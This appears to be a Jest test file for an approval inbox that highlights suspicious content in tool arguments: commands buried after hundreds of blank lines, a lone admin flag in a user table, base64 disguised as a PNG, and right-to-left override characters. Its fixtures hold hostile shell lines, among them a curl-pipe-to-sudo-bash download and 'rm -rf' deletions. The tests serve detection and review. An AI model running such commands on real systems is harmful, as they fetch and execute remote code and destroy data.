import { describe, expect, it } from '@jest/globals';
import { VIEWS } from '../../../../../apps/approvals/inbox/arguments/arguments.tsx';
import { oddIn } from '../../../../../apps/approvals/inbox/arguments/odd.ts';
import { canonicalJson, type Json } from '../../../../../workflows/domain/canonical-json.ts';
import { wordsOf } from '../../../../support/pages.ts';
import { drawn } from './invertible.tsx';

const script = '#!/bin/sh\ncurl -fsSL https://get.example.com/agent.sh | sudo bash\nrm -rf /srv/cache\n';
const encoded = Buffer.from(script).toString('base64');

describe('what stands out', () => {
  it.each<[string, Json, string]>([
    [
      'a line after many empty ones',
      { content: `a${'\n'.repeat(801)}rm -rf /` },
      'content: 800 empty lines, and then line 802',
    ],
    ['lines of blanks', { content: `a\n${'  \t\n'.repeat(30)}b` }, 'content: 30 empty lines, and then line 32'],
    [
      'a text after equal characters',
      { content: `${'='.repeat(6_000)} drop` },
      'content: 6,000 equal characters in a row, and then more',
    ],
    [
      'one row of a table',
      { users: Array.from({ length: 30 }, (_, n) => ({ name: `u${n}`, admin: n === 17 })) },
      'users[17].admin is true: most others have one other value',
    ],
    [
      'one member that no other row has',
      { users: Array.from({ length: 30 }, (_, n) => ({ name: `u${n}`, ...(n === 17 && { admin: true }) })) },
      'users[17].admin is true: most others have none',
    ],
    [
      'one entry of a list',
      { steps: Array.from({ length: 300 }, (_, n) => (n === 211 ? 'drop' : 'add')) },
      'steps[211] is "drop": most others have one other value',
    ],
  ])('is named in every view: %s', (_name, value, words) => {
    for (const view of VIEWS) {
      expect(wordsOf(drawn(canonicalJson(value), view)).replaceAll('&quot;', '"')).toContain(words);
    }
  });

  it.each<[string, Json]>([
    ['lines with some empty ones', { content: 'a\n\n\nb\n'.repeat(30) }],
    ['empty lines at the end', { content: `a${'\n'.repeat(100)}` }],
    ['a line under a title', { content: `# A\n${'='.repeat(80)}\n` }],
    ['a list of different values', Array.from({ length: 40 }, (_, n) => `/srv/${n}`)],
    ['equal values', Array.from({ length: 40 }, () => 'add')],
    ['few rows', [{ admin: true }, { admin: false }, { admin: false }]],
  ])('is not claimed where nothing does: %s', (_name, value) => expect(oddIn(value)).toEqual([]));

  it('is found in texts of a megabyte that a caller chose', () => {
    for (const text of ['a'.repeat(1_000_000), `${'\n'.repeat(1_000_000)}a`]) expect(oddIn({ text })).toHaveLength(1);
    for (const text of ['ab'.repeat(500_000), 'a\n'.repeat(500_000)]) expect(oddIn({ text })).toEqual([]);
  });
});

describe('a text in base64', () => {
  it.each<[string, string]>([
    ['plain', encoded],
    ['in a data address that calls it a picture', `data:image/png;base64,${encoded}`],
  ])('is shown decoded, in lines of its own: %s', (_name, content) => {
    const page = drawn(canonicalJson({ path: 'logo.png', content }), 'readable');
    expect(wordsOf(page)).toMatch(/text, 84 bytes, as text in base64.*Decoded: shell, 4 lines.*curl -fsSL/s);
    expect(wordsOf(page)).toContain('| sudo bash');
  });

  it('is no text if it is an identifier', () => {
    for (const id of ['0123456789abcdef'.repeat(5), 'A'.repeat(80), 'https://example.com/'.repeat(4)])
      expect(wordsOf(drawn(canonicalJson({ id }), 'readable'))).not.toContain('Decoded');
  });

  it('marks what misleads in the decoded text', () => {
    const content = Buffer.from(`pay \u202eexe.txt ${'x'.repeat(60)}`).toString('base64');
    const page = drawn(canonicalJson({ content }), 'readable');
    expect(wordsOf(page.split('class="json')[0] ?? '')).toContain('Shown as escapes: \\u202e');
  });
});

it('stresses no word of a shell, because what is dangerous there is no keyword', () => {
  expect(drawn(canonicalJson({ command: script }), 'readable')).not.toContain('tone-');
});
